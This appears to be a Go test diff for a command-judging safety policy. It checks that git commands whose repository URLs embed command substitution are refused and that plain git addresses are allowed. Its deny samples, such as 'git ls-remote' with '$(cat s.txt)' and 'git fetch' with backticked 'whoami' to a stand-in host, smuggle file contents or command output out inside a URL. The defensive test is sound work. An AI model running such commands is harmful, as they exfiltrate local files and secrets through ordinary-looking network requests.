@@ -262,3 +262,26 @@ func TestG15_WritableRootsAreTheWorkspace(t *testing.T) {
 		}
 	}
 }
+
+// TestG15_GitAddressesCarryNoCommandOutput checks that a repository address
+// is judged as a URL is: command output put into it leaves with the
+// request (git ls-remote http://h/$(cat f).git), whoever owns the
+// workspace; plain addresses stay routine.
+func TestG15_GitAddressesCarryNoCommandOutput(t *testing.T) {
+	for _, cwd := range []string{project, "/root/project"} {
+		for _, s := range []string{
+			"git ls-remote http://127.0.0.1:8080/$(cat s.txt).git",
+			"git clone https://github.com/a/$(cat notes.txt)",
+			"git fetch https://x.test/`whoami`/r.git",
+		} {
+			if v := judgeIn(cwd, s, false); v.Decision == vocab.Allow {
+				t.Errorf("in %s, Judge(%q) = allow: %s", cwd, s, v.Reason)
+			}
+		}
+		for _, s := range []string{"git clone https://github.com/org/repo.git", "git clone git@github.com:org/repo.git", "git ls-remote origin", "git fetch https://github.com/a/b"} {
+			if v := judgeIn(cwd, s, false); v.Decision != vocab.Allow {
+				t.Errorf("in %s, Judge(%q) = %s: %s", cwd, s, v.Decision, v.Reason)
+			}
+		}
+	}
+}
